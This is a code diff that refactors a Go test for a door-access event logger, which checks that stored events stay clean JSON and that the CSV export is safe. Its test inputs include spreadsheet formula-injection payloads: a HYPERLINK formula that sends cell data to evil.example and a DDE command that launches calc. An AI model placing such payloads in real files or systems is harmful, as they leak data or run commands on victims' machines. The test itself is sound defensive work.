@@ -2,19 +2,15 @@ package app_test
 
 import (
 	"bytes"
-	"context"
 	"encoding/csv"
 	"encoding/json"
 	"io"
 	"net/http"
-	"net/http/httptest"
 	"strings"
 	"testing"
 
 	"github.com/go-json-experiment/json/jsontext"
 
-	"github.com/doorlog/doorlog/internal/app"
-	"github.com/doorlog/doorlog/internal/doorlog"
 	"github.com/doorlog/doorlog/internal/ingest"
 )
 
@@ -26,27 +22,7 @@ import (
 // then read as strict JSON from every API that serves it, and the CSV
 // export must hold no cell a spreadsheet would evaluate.
 func TestCleanDataEveryAPI(t *testing.T) {
-	ctx := context.Background()
-	a, err := app.Open(ctx, app.Config{Data: t.TempDir(), Name: "test", Version: "test"})
-	if err != nil {
-		t.Fatal(err)
-	}
-	ts := httptest.NewServer(a.Handler())
-	defer func() {
-		ts.Close()
-		a.Close()
-	}()
-	if err := a.Store.CreateSite(ctx, &doorlog.Site{ID: "a", Name: "A"}); err != nil {
-		t.Fatal(err)
-	}
-	const dev = "0b9a4c1e-5f0e-4c59-9d7e-2f1f6a0b3c11"
-	if err := a.Store.CreateDevice(ctx, &doorlog.Device{ID: dev, SiteID: "a", Name: "Gate"}); err != nil {
-		t.Fatal(err)
-	}
-	secret, _, err := a.Auth.IssueToken(ctx, doorlog.Token{Role: doorlog.RoleAdmin})
-	if err != nil {
-		t.Fatal(err)
-	}
+	ts, secret := startGate(t)
 	do := func(method, path, contentType, body string) (int, []byte) {
 		t.Helper()
 		req, _ := http.NewRequest(method, ts.URL+path, strings.NewReader(body))
@@ -68,12 +44,12 @@ func TestCleanDataEveryAPI(t *testing.T) {
 
 	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
 	items := []string{
-		`{"device_id":"` + dev + `","time":"2024-05-01T10:00:00Z","key":"door_was_opened","source_id":"s1","model":{"lock":1,"note":"caf` + "\xe9" + ` \ud800"}}`,
-		`{"device_id":"` + dev + `","time":"2024-05-01T10:00:01Z","key":"door_was_opened","source_id":"s2","model":{"a":` + strings.Repeat("[", 39) + strings.Repeat("]", 39) + `}}`,
-		`{"device_id":"` + dev + `","time":"9999-12-31T23:30:00-01:00","key":"door_was_opened","source_id":"s3"}`,
-		`{"device_id":"` + dev + `","time":"2024-05-01T10:00:03Z","key":"door_was_opened","source_id":"s4` + "\xff" + `"}`,
-		`{"device_id":"` + dev + `","time":"2024-05-01T10:00:04Z","key":"door_was_opened","source_id":` + mustJSON(t, formula) + `,"model":{"lock":2}}`,
-		`{"device_id":"` + dev + `","time":"2024-05-01T10:00:05Z","key":"=cmd|' /C calc'!A0","source_id":"s6"}`,
+		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:00Z","key":"door_was_opened","source_id":"s1","model":{"lock":1,"note":"caf` + "\xe9" + ` \ud800"}}`,
+		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:01Z","key":"door_was_opened","source_id":"s2","model":{"a":` + strings.Repeat("[", 39) + strings.Repeat("]", 39) + `}}`,
+		`{"device_id":"` + gateDevice + `","time":"9999-12-31T23:30:00-01:00","key":"door_was_opened","source_id":"s3"}`,
+		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:03Z","key":"door_was_opened","source_id":"s4` + "\xff" + `"}`,
+		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:04Z","key":"door_was_opened","source_id":` + mustJSON(t, formula) + `,"model":{"lock":2}}`,
+		`{"device_id":"` + gateDevice + `","time":"2024-05-01T10:00:05Z","key":"=cmd|' /C calc'!A0","source_id":"s6"}`,
 	}
 	status, raw := do("POST", "/v1/events", "application/x-ndjson", strings.Join(items, "\n"))
 	if status != 200 {
@@ -107,8 +83,8 @@ func TestCleanDataEveryAPI(t *testing.T) {
 	for _, ep := range []struct{ name, method, path, body string }{
 		{"native list", "GET", "/v1/events?limit=100", ""},
 		{"BAS-IP list", "GET", "/api/v1/log/items?limit=50", ""},
-		{"BAS-IP list of the device", "GET", "/devices/" + dev + "/api/v1/log/items?limit=50", ""},
-		{"AIPIX logs", "GET", "/api/admin/v1/intercoms/" + dev + "/logs?per_page=100", ""},
+		{"BAS-IP list of the device", "GET", "/devices/" + gateDevice + "/api/v1/log/items?limit=50", ""},
+		{"AIPIX logs", "GET", "/api/admin/v1/intercoms/" + gateDevice + "/logs?per_page=100", ""},
 		{"OLOID activities", "POST", "/filterActivity", `{"limit":1000}`},
 	} {
 		status, body := do(ep.method, ep.path, "application/json", ep.body)
